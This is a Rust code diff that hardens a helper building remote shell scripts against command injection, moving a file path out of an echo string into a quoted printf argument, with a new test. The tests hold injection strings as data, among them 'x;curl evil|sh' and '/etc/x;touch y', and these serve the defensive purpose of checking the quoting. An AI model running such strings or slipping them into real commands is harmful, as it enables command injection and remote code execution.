@@ -259,7 +259,7 @@ pub(crate) fn account(evidence: &Evidence) -> Option<(String, String)> {
 /// keeps theirs; `file` has to be there, or nothing is changed.
 pub(crate) fn on_host(file: &str, script: &str) -> String {
     format!(
-        "(\nset -e\n[ -s {file} ] || {{ echo '{file} is not there: nothing was changed' >&2; exit 1; }}\n{script}\n)"
+        "(\nset -e\n[ -s {file} ] || {{ printf '%s is not there: nothing was changed\\n' {file} >&2; exit 1; }}\n{script}\n)"
     )
 }
 
@@ -340,6 +340,16 @@ mod tests {
         assert_eq!(word("x;curl evil|sh"), "'x;curl evil|sh'");
         assert_eq!(word("it's"), "'it'\\''s'");
         assert_eq!(word(""), "''");
+    }
+
+    #[test]
+    fn a_path_of_a_stranger_stays_a_path() {
+        let script = on_host(&word("/etc/x;touch y"), "true");
+        assert!(script.contains("[ -s '/etc/x;touch y' ]"), "{script}");
+        assert!(
+            script.contains("printf '%s is not there: nothing was changed\\n' '/etc/x;touch y' >&2"),
+            "{script}"
+        );
     }
 
     #[test]
